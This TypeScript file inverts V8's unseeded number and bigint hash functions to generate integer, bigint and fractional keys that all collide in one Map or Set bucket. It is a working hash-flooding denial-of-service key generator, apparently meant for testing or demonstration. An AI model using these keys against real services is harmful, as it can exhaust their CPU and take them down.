// An attacker's keys: V8 hashes numbers and bigints without a seed, and both hash functions can be run backwards,
// so one can pick keys whose hashes share their low bits and all fall in one bucket of a Map or Set.

const M64 = (1n << 64n) - 1n;

/** The inverse of odd `a` modulo 2^32 (Newton's iteration). */
function inverse32(a: number): number {
  let x = a;
  for (let i = 0; i < 5; i++) x = Math.imul(x, 2 - Math.imul(a, x));
  return x >>> 0;
}

function inverse64(a: bigint): bigint {
  let x = a;
  for (let i = 0; i < 6; i++) x = (x * (2n - a * x)) & M64;
  return x;
}

/** The 32-bit key V8's integer hash maps to `hash` (the hash's two top bits are whatever the key gives). */
function int32KeyFor(hash: number): number {
  let h = hash >>> 0;
  h = (h ^ (h >>> 16)) >>> 0;
  h = Math.imul(h, inverse32(2057)) >>> 0;
  h = (h ^ (h >>> 4) ^ (h >>> 8) ^ (h >>> 12) ^ (h >>> 16) ^ (h >>> 20) ^ (h >>> 24) ^ (h >>> 28)) >>> 0;
  h = Math.imul(h, inverse32(5)) >>> 0;
  h = (h ^ (h >>> 12) ^ (h >>> 24)) >>> 0;
  h = Math.imul((h + 1) >>> 0, inverse32(0x7fff)) >>> 0;
  return h | 0;
}

/** The 64-bit key V8's long hash maps to `hash`. */
function int64KeyFor(hash: bigint): bigint {
  let h = hash & M64;
  h = h ^ (h >> 22n) ^ (h >> 44n);
  h = (h * inverse64(65n)) & M64;
  h = h ^ (h >> 11n) ^ (h >> 22n) ^ (h >> 33n) ^ (h >> 44n) ^ (h >> 55n);
  h = (h * inverse64(21n)) & M64;
  h = h ^ (h >> 31n) ^ (h >> 62n);
  return ((h + 1n) * inverse64((1n << 18n) - 1n)) & M64;
}

/** `count` distinct 32-bit integers whose hashes all end in 16 zero bits. */
export function collidingIntegers(count: number): number[] {
  return Array.from({ length: count }, (_, i) => int32KeyFor(i << 16));
}

/** `count` distinct bigints whose hashes all end in 20 zero bits. */
export function collidingBigInts(count: number): bigint[] {
  return Array.from({ length: count }, (_, i) => int64KeyFor(BigInt(i + 1) << 20n));
}

/** `count` distinct fractional numbers whose hashes all end in 16 zero bits. */
export function collidingFractions(count: number): number[] {
  const float = new Float64Array(1);
  const bits = new BigUint64Array(float.buffer);
  const keys: number[] = [];
  for (let i = 1n; keys.length < count; i++) {
    // Spread the high bits, so that most preimages are ordinary finite numbers.
    bits[0] = int64KeyFor(((i * 0x9e3779b97f4a7c15n) << 16n) & M64);
    const key = float[0];
    if (Number.isFinite(key) && !Number.isInteger(key)) keys.push(key);
  }
  return keys;
}
